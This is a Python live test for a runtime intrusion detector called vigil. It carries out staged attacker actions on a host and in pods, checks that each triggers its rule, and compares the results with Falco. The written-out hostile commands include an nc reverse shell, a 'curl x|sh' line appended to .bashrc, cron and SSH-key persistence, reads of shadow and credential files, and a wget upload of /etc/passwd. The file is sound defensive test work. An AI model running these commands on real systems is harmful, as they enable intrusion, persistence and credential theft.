#!/usr/bin/env python3
"""Live tests of the default rules (rules/): real attacker actions on this
host and in runc containers under a kubepods cgroup, under `vigil run`.

One `vigil run -r rules/ -r <tuning>` watches every action (the tuning file
only names the test's no-egress container, as a user would extend
vigil_egress_forbidden); each action must raise its rule, with the key
output fields (container id, marker file or command line).  A `vigil record`
runs at the same time; afterwards each action's own process subtree is cut
out of the recording and replayed under vigil's default rules and under the
official falco_rules.yaml ($VIGIL_FALCO_RULES), and the test prints both
detection counts and asserts that vigil detects every action Falco's stable
rules detect, and more.

Benign counterparts live in tests/replay/vigil/*_benign.jsonl and in
tests/pkg/test_benign.py (the whole default set on a benign workload).
"""
import json
import os
import pty
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

from livelib import Container, Failure, Vigil, check, main

SRC = os.environ.get("VIGIL_SRC", os.path.dirname(os.path.dirname(os.path.dirname(
    os.path.abspath(__file__)))))
VIGIL = os.environ.get("VIGIL_BIN", os.path.join(SRC, "build", "vigil"))
FALCO = os.environ.get("VIGIL_FALCO_RULES", os.path.join(SRC, "..", "shared", "falco-rules"))
MARK = "vg" + uuid.uuid4().hex[:8]

# containerd's default capabilities (what a Kubernetes pod gets), so that
# actions a pod can really do (raw sockets) succeed.
POD_CAPS = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD",
            "CAP_NET_RAW", "CAP_SETGID", "CAP_SETUID", "CAP_SETFCAP", "CAP_SETPCAP",
            "CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT", "CAP_KILL", "CAP_AUDIT_WRITE"]


class Pod(Container):
    """A busybox container on an overlay root (so that files it writes lie on
    the upper layer), with a pod's capabilities and the static vgattack
    helper in its image."""

    APPS = ["sh", "cat", "ls", "echo", "sleep", "id", "true", "touch", "cp", "chmod", "nc",
            "dpkg", "rpm", "mount", "ftpget", "tftp", "wget", "shred", "insmod", "grep",
            "find", "rm", "mkdir", "ln"]

    def __init__(self, helper, host_net=False):
        super().__init__()
        self.host_net = host_net
        lower = os.path.join(self.dir, "rootfs")
        for app in self.APPS:
            p = os.path.join(lower, "bin", app)
            if not os.path.lexists(p):
                os.symlink("busybox", p)
        shutil.copy(helper, os.path.join(lower, "bin", "vgattack"))
        tok = os.path.join(lower, "var/run/secrets/kubernetes.io/serviceaccount")
        os.makedirs(tok)
        with open(os.path.join(tok, "token"), "w") as f:
            f.write("eyJhbGciOi.test.token\n")
        os.makedirs(os.path.join(lower, "mnt"))
        for d in ("upper", "work", "merged"):
            os.makedirs(os.path.join(self.dir, d))
        self.merged = os.path.join(self.dir, "merged")
        subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                        "lowerdir=%s,upperdir=%s/upper,workdir=%s/work" % (lower, self.dir, self.dir),
                        self.merged], check=True)

    def argv_config(self, argv, terminal=False):
        path = os.path.join(self.dir, "config.json")
        if os.path.exists(path):
            os.unlink(path)
        subprocess.run(["runc", "spec", "-b", self.dir], check=True)
        with open(path) as f:
            cfg = json.load(f)
        cfg["process"]["terminal"] = terminal
        cfg["process"]["args"] = argv
        for k in ("bounding", "effective", "permitted"):
            cfg["process"]["capabilities"][k] = POD_CAPS
        cfg["process"]["capabilities"].pop("ambient", None)
        cfg["process"]["capabilities"].pop("inheritable", None)
        cfg["root"] = {"path": self.merged, "readonly": False}
        cfg["linux"]["cgroupsPath"] = "/kubepods/besteffort/pod%s/%s" % (self.pod_uid, self.id)
        if self.host_net:
            cfg["linux"]["namespaces"] = [n for n in cfg["linux"]["namespaces"]
                                          if n["type"] != "network"]
        with open(path, "w") as f:
            json.dump(cfg, f)

    def popen(self, argv, terminal=False):
        self.argv_config(argv, terminal)
        if terminal:
            # runc gives the container the terminal it runs on
            pid, fd = pty.fork()
            if pid == 0:
                os.execvp("runc", ["runc", "run", "-b", self.dir, self.name])
            return pid, fd
        return subprocess.Popen(["runc", "run", "-b", self.dir, self.name],
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT)

    def close(self):
        subprocess.run(["runc", "delete", "-f", self.name], capture_output=True)
        subprocess.run(["umount", self.merged], capture_output=True)
        super().close()


class Action:
    def __init__(self, name, where, rules, match, run):
        self.name, self.where, self.rules, self.match, self.run = name, where, rules, match, run
        self.pids = []


def sh(cmd, **kw):
    """A host action: a shell command; returns its Popen after it ended."""
    p = subprocess.Popen(["/bin/sh", "-c", cmd], stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    p.wait(30)
    return [p.pid]


def prog(argv, **kw):
    p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, **kw)
    p.wait(30)
    return [p.pid]


def in_pod(pod, script):
    def run():
        p = pod.popen(["/bin/sh", "-c", script])
        p.communicate(timeout=30)
        subprocess.run(["runc", "delete", "-f", pod.name], capture_output=True)
        return [p.pid]
    return run


def fields(**kv):
    """An alert matcher: every key's output field contains the value."""
    def m(a):
        of = a.get("output_fields", {})
        return all(v in str(of.get(k, "")) for k, v in kv.items())
    return m


def build_actions(work, helper_host, pod, netpod):
    home = os.path.join(work, "home")
    os.makedirs(os.path.join(home, ".ssh"))
    os.makedirs(os.path.join(home, ".aws"))
    with open(os.path.join(home, ".aws", "credentials"), "w") as f:
        f.write("[default]\naws_access_key_id = AKIAEXAMPLE\n")
    with open(os.path.join(home, ".bash_history"), "w") as f:
        f.write("ls\n")
    os.symlink("/usr/bin/cat", os.path.join(work, "sshd"))  # a cat named sshd
    plain = os.path.join(work, "plain")
    with open(plain, "w") as f:
        f.write("x\n")
    cid = pod.id[:12]
    ncid = netpod.id[:12]
    rel_agent = "/sys/fs/cgroup/memory/release_agent"
    H, C = "host", "container"
    port = [0]

    def revshell_host():
        srv = socket.socket()
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        port[0] = srv.getsockname()[1]
        p = subprocess.Popen(["busybox", "nc", "127.0.0.1", str(port[0]), "-e", "/bin/sh"],
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        port.append(p.pid)  # nc, then the shell it becomes
        c, _ = srv.accept()
        c.sendall(b"echo %s; exit\n" % MARK.encode())
        c.recv(100)
        p.wait(10)
        c.close()
        srv.close()
        return [p.pid]

    def server_shell():
        code = ("import ctypes, os; ctypes.CDLL(None).prctl(15, b'nginx', 0, 0, 0); "
                "os.system('echo %s-srv > /dev/null')" % MARK)
        return prog([sys.executable, "-c", code])

    def tty_as_nobody():
        pid, fd = pty.fork()
        if pid == 0:
            os.execvp("setpriv", ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                  "/bin/true", MARK + "-tty"])
        try:
            while os.read(fd, 1024):
                pass
        except OSError:
            pass
        os.waitpid(pid, 0)
        return [pid]

    def tty_shell_in_pod():
        pid, fd = pod.popen(["/bin/sh"], terminal=True)
        time.sleep(0.5)
        os.write(fd, b"exit\n")
        try:
            while os.read(fd, 1024):
                pass
        except OSError:
            pass
        os.waitpid(pid, 0)
        subprocess.run(["runc", "delete", "-f", pod.name], capture_output=True)
        return [pid]

    def with_cleanup(f, *paths):
        def run():
            try:
                return f()
            finally:
                for p in paths:
                    if os.path.lexists(p):
                        os.unlink(p)
        return run

    A = Action
    return [
        # ---- execution
        A("shell from a web server (host)", H, ["Shell spawned by a server program"],
          fields(**{"proc.pname": "nginx"}), server_shell),
        A("reverse shell with nc -e (host)", H,
          ["Netcat-style tool started with a program to run",
           "Shell or interpreter connected to a network socket"],
          lambda al: al["output_fields"].get("proc.pid") in port[1:], revshell_host),
        A("fileless memfd execution (host)", H, ["Fileless execution from memory"],
          fields(**{"proc.cmdline": "vgpayload"}), lambda: prog([helper_host, "memfd-exec"])),
        A("run from /dev/shm (host)", H, ["Program run from a writable temporary directory"],
          fields(**{"proc.exepath": "/dev/shm/" + MARK}),
          with_cleanup(lambda: sh("cp /bin/true /dev/shm/%s && /dev/shm/%s" % (MARK, MARK)),
                       "/dev/shm/" + MARK)),
        A("interactive shell in a pod", C, ["Interactive shell in a container"],
          fields(**{"container.id": cid}), tty_shell_in_pod),
        A("reverse shell with nc -e in a pod", C,
          ["Netcat-style tool started with a program to run",
           "Shell or interpreter connected to a network socket"],
          fields(**{"container.id": cid}),
          in_pod(pod, "(echo exit | nc -l -p 4444 >/dev/null) & sleep 0.3; "
                      "nc 127.0.0.1 4444 -e /bin/sh; kill $! 2>/dev/null; true")),
        A("dropped binary run in a pod", C,
          ["Executable not in the container image", "Program run from a writable temporary directory"],
          fields(**{"container.id": cid, "proc.exepath": "/tmp/dropped"}),
          in_pod(pod, "cp /bin/busybox /tmp/dropped && /tmp/dropped true")),
        A("fileless execution in a pod", C, ["Fileless execution from memory"],
          fields(**{"container.id": cid}), in_pod(pod, "vgattack memfd-exec")),
        # (busybox's shell runs some applets without exec; a path makes it exec)
        # ---- persistence
        A("shell start-up file appended", H, ["Shell start-up file modified"],
          fields(**{"fd.name": home + "/.bashrc"}),
          lambda: sh("echo 'curl x|sh' >> %s/.bashrc" % home)),
        A("ssh key added to authorized_keys", H, ["SSH authorized keys modified"],
          fields(**{"fd.name": home + "/.ssh/authorized_keys"}),
          lambda: sh("echo 'ssh-ed25519 AAAA %s' >> %s/.ssh/authorized_keys" % (MARK, home))),
        A("cron job planted", H, ["Scheduled task or service definition written",
                                  "File opened for writing below /etc"],
          fields(**{"fd.name": "/etc/cron.d/" + MARK}),
          with_cleanup(lambda: sh("echo '* * * * * root true' > /etc/cron.d/%s" % MARK),
                       "/etc/cron.d/" + MARK)),
        A("user management binary on the host", H, ["User or group changed on the host"],
          fields(**{"proc.cmdline": MARK}), lambda: sh("useradd --help %s; true" % MARK)),
        A("package manager in a pod", C, ["Package manager run in a pod"],
          fields(**{"container.id": cid, "proc.exe": "dpkg"}),
          in_pod(pod, "dpkg -l >/dev/null 2>&1; true")),
        # ---- privilege escalation and escape
        A("setuid bit set", H, ["Setuid or setgid bit set"],
          fields(**{"fs.path.name": plain}), lambda: sh("chmod u+s %s" % plain)),
        A("setuid to root outside sudo", H, ["Privilege escalation to root via setuid"],
          fields(**{"proc.exepath": "vgattack"}),
          lambda: prog([helper_host, "setuid-root", "1000"])),
        A("user namespace by an unprivileged user", H,
          ["Namespace changed by an unprivileged or contained process"],
          fields(**{"proc.exepath": "vgattack", "user.uid": "65534"}),
          lambda: prog([helper_host, "unshare-user", "65534"])),
        A("cgroup release_agent opened for writing", H, ["Cgroup release_agent written"],
          fields(**{"fd.name": rel_agent}), lambda: prog([helper_host, "open-write", rel_agent])),
        A("mount in a pod", C, ["Mount from inside a container"],
          fields(**{"container.id": cid}), in_pod(pod, "mount -t tmpfs none /mnt; true")),
        A("kernel module load (host)", H, ["Kernel module loaded"],
          fields(**{"proc.exepath": "vgattack"}),
          lambda: prog([helper_host, "finit", "/etc/hostname"])),
        A("kernel module load in a pod", C, ["Kernel module loaded"],
          fields(**{"container.id": cid}), in_pod(pod, "vgattack finit /etc/passwd")),
        A("BPF program loaded", H, ["BPF program loaded by an unexpected program"],
          fields(**{"proc.exepath": "vgattack"}), lambda: prog([helper_host, "bpf-load"])),
        A("ptrace attach (host)", H, ["Process attached with ptrace"],
          fields(**{"proc.exepath": "vgattack"}), lambda: prog([helper_host, "attach"])),
        A("ptrace attach in a pod", C, ["Process attached with ptrace"],
          fields(**{"container.id": cid}), in_pod(pod, "vgattack attach")),
        A("PTRACE_TRACEME", H, ["Process asked to be traced"],
          fields(**{"proc.exepath": "vgattack"}), lambda: prog([helper_host, "traceme"])),
        # ---- credential access and discovery
        A("shadow read by a cat named sshd", H, ["Sensitive file read by an untrusted program"],
          fields(**{"fd.name": "/etc/shadow", "proc.exepath": "/usr/bin/cat"}),
          lambda: prog([os.path.join(work, "sshd"), "/etc/shadow"])),
        A("service account token read in a pod", C,
          ["Sensitive file read by an untrusted program"],
          fields(**{"container.id": cid, "fd.name": "serviceaccount/token"}),
          in_pod(pod, "cat /var/run/secrets/kubernetes.io/serviceaccount/token")),
        A("search for private keys", H, ["Search for private keys or credentials"],
          fields(**{"proc.cmdline": "BEGIN OPENSSH PRIVATE"}),
          lambda: sh("grep -rl 'BEGIN OPENSSH PRIVATE KEY' %s; true" % home)),
        A("search for AWS keys", H, ["Search for private keys or credentials"],
          fields(**{"proc.cmdline": "aws_secret_access_key"}),
          lambda: sh("grep -r aws_secret_access_key %s; true" % home)),
        A("find private keys in a pod", C, ["Search for private keys or credentials"],
          fields(**{"container.id": cid}), in_pod(pod, "/bin/find / -name id_rsa 2>/dev/null; true")),
        A("AWS credentials read by cat", H,
          ["Cloud or cluster credentials read by a shell or file tool"],
          fields(**{"fd.name": home + "/.aws/credentials"}),
          lambda: sh("cat %s/.aws/credentials" % home)),
        A("process environment read in a pod", C, ["Process environment read in a container"],
          fields(**{"container.id": cid, "fd.name": "/proc/1/environ"}),
          in_pod(pod, "cat /proc/1/environ >/dev/null")),
        A("directory traversal to /etc/passwd", H,
          ["Sensitive file reached through directory traversal"],
          fields(**{"fd.name": "/etc/passwd"}),
          lambda: prog([sys.executable, "-c", "open('%s/../../etc/passwd').read()" % work])),
        # ---- defense evasion
        A("shell history truncated and removed", H, ["Shell history cleared"],
          fields(**{"proc.cmdline": home}),
          lambda: sh(": > %s/.bash_history; rm -f %s/.bash_history" % (home, home))),
        A("log file truncated", H, ["Log file cleared"],
          fields(**{"fd.name": "/var/log/%s.log" % MARK}),
          with_cleanup(lambda: sh("echo x > /var/log/%s.log" % MARK), "/var/log/%s.log" % MARK)),
        A("file created below /dev", H, ["File created below /dev"],
          fields(**{"fd.name": "/dev/." + MARK}),
          with_cleanup(lambda: sh("echo payload > /dev/.%s" % MARK), "/dev/." + MARK)),
        A("symlink to /etc/shadow", H, ["Link to a sensitive file created"],
          fields(**{"fs.path.target": work + "/shadow-sym"}),
          lambda: sh("ln -s /etc/shadow %s/shadow-sym" % work)),
        A("hardlink to /etc/shadow", H, ["Link to a sensitive file created"],
          fields(**{"fs.path.target": work + "/shadow-hard"}),
          with_cleanup(lambda: sh("ln /etc/shadow %s/shadow-hard" % work),
                       work + "/shadow-hard")),
        # ---- command and control, exfiltration, impact
        A("packet socket in a pod", C, ["Raw packet socket opened"],
          fields(**{"container.id": cid}), in_pod(pod, "vgattack packetsock")),
        A("raw IP socket in a pod", C, ["Raw IP socket opened in a container"],
          fields(**{"container.id": cid}), in_pod(pod, "vgattack rawsock")),
        A("remote copy tool in a pod", C, ["Remote file copy tool run in a container"],
          fields(**{"container.id": cid}),
          in_pod(pod, "wget -q --post-file=/etc/passwd http://127.0.0.1:9/ 2>/dev/null; true")),
        A("port scan with nc -z in a pod", C, ["Network scanner run"],
          fields(**{"container.id": cid}), in_pod(pod, "nc -z -w 1 127.0.0.1 1-5 2>/dev/null; true")),
        A("pod connects to a non-allowed port", C,
          ["Container connected to a non-allowed port", "Outbound connection from a container "
           "that must have none"],
          fields(**{"container.id": ncid, "fd.rport": "4444"}),
          in_pod(netpod, "vgattack connect 198.51.100.7 4444")),
        A("pod contacts a mining pool port", C,
          ["Crypto-mining pool contact", "Container connected to a non-allowed port",
           "Outbound connection from a container that must have none"],
          fields(**{"container.id": ncid}),
          in_pod(netpod, "vgattack connect 198.51.100.7 3333")),
        A("miner started with a stratum URL", H, ["Crypto-mining pool contact"],
          fields(**{"proc.cmdline": "stratum+tcp://"}),
          lambda: prog(["/bin/true", "-o", "stratum+tcp://pool.invalid:3333", MARK])),
        A("ssh to port 443", H, ["SSH client connected to a non-standard port"],
          fields(**{"fd.rport": "443"}),
          lambda: prog(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1", "-p", "443",
                        "198.51.100.7", "true"])),
        A("shred in a pod", C, ["Data destruction tool run"],
          fields(**{"container.id": cid}), in_pod(pod, "echo x > /tmp/f; shred -u /tmp/f")),
        A("insmod in a pod", C, ["Kernel or disk debugger run in a container"],
          fields(**{"container.id": cid}), in_pod(pod, "/bin/insmod /nonexistent.ko 2>/dev/null; true")),
        A("command on a terminal as nobody", H, ["Command run on a terminal by a no-login account"],
          fields(**{"proc.cmdline": MARK + "-tty"}), tty_as_nobody),
    ]


TUNING = """
- macro: vigil_egress_forbidden
  condition: container.id = %s
"""


def subtree(events, roots):
    """Pids of the roots and every process forked below them."""
    pids = set(roots)
    for e in events:
        if e.get("kind") == "fork" and e.get("pid") in pids:
            pids.add(e["fork"]["child_pid"])
    return pids


def replay(capfile, rules):
    args = []
    for r in rules:
        args += ["-r", r]
    r = subprocess.run([VIGIL, "replay"] + args + [capfile], capture_output=True, text=True,
                       timeout=120)
    check(r.returncode == 0, "replay: %s" % r.stderr[-500:])
    return [json.loads(l) for l in r.stdout.splitlines() if l.strip()]


def test_default_rules_and_falco_comparison():
    work = tempfile.mkdtemp(prefix="vigil-defaults-")
    helper_host = os.path.join(work, "vgattack")
    subprocess.run(["gcc", "-O1", "-static", "-o", helper_host,
                    os.path.join(SRC, "tests", "live", "vgattack.c")], check=True)
    pod, netpod = Pod(helper_host), Pod(helper_host, host_net=True)
    actions = build_actions(work, helper_host, pod, netpod)
    tuning = os.path.join(work, "tuning.yaml")
    with open(tuning, "w") as f:
        f.write(TUNING % netpod.id[:12])
    cap = os.path.join(work, "cap.jsonl")
    v = Vigil(["run", "-r", os.path.join(SRC, "rules"), "-r", tuning])
    rec = subprocess.Popen([VIGIL, "record", "-o", cap], stdout=subprocess.DEVNULL,
                           stderr=subprocess.PIPE, text=True)
    try:
        time.sleep(2.0)  # the recorder's probes
        for a in actions:
            t = time.time()
            a.pids = a.run()
            if os.environ.get("VIGIL_TEST_VERBOSE"):
                print("  ran %-42s %.1fs" % (a.name, time.time() - t), flush=True)
        time.sleep(1.0)
    finally:
        rec.send_signal(2)
        rec.wait(30)
        v.stop()
        pod.close()
        netpod.close()
    alerts = v.lines()
    missed = []
    for a in actions:
        for rule in a.rules:
            if not any(al["rule"] == rule and a.match(al) for al in alerts):
                missed.append("%s: no '%s' alert" % (a.name, rule))
    v.close()
    if missed:
        seen = sorted(set((al["rule"], al["output"][:160]) for al in alerts))
        shutil.rmtree(work, ignore_errors=True)
        raise Failure("%d missed:\n  %s\nalerts seen:\n  %s" % (
            len(missed), "\n  ".join(missed), "\n  ".join("%s: %s" % s for s in seen)))
    print("  every action raised its rule under vigil run (%d actions, %d rules)" % (
        len(actions), len(set(r for a in actions for r in a.rules))))

    # the comparison: each action's own events, replayed under both rule sets
    events = []
    with open(cap, errors="replace") as f:
        for line in f:
            if line.startswith("{"):
                events.append(json.loads(line))
    head = [e for e in events if e.get("kind") == "proc" or "vigil_capture" in e]
    vig_n = fal_n = 0
    only_falco, rows = [], []
    for i, a in enumerate(actions):
        pids = subtree(events, a.pids)
        mine = [e for e in events if e.get("kind") != "proc" and "vigil_capture" not in e and
                (e.get("pid") in pids or
                 (e.get("kind") == "fork" and e["fork"]["child_pid"] in pids))]
        path = os.path.join(work, "action-%02d.jsonl" % i)
        with open(path, "w") as f:
            for e in head + mine:
                f.write(json.dumps(e) + "\n")
        vr = sorted(set(x["rule"] for x in replay(path, [os.path.join(SRC, "rules")])))
        fr = sorted(set(x["rule"] for x in replay(path, [os.path.join(FALCO, "falco_rules.yaml")])))
        vig_n += bool(vr)
        fal_n += bool(fr)
        if fr and not vr:
            only_falco.append(a.name)
        rows.append("  %-42s vigil: %-3s falco: %s" % (a.name, "yes" if vr else "NO",
                                                         ", ".join(fr) or "-"))
    print("\n".join(rows))
    print("  detected: vigil defaults %d/%d, falco_rules.yaml %d/%d" % (
        vig_n, len(actions), fal_n, len(actions)))
    shutil.rmtree(work, ignore_errors=True)
    check(not only_falco, "Falco detects what vigil misses: %s" % only_falco)
    check(vig_n > fal_n, "vigil (%d) does not detect more than Falco (%d)" % (vig_n, fal_n))


if __name__ == "__main__":
    main([test_default_rules_and_falco_comparison])
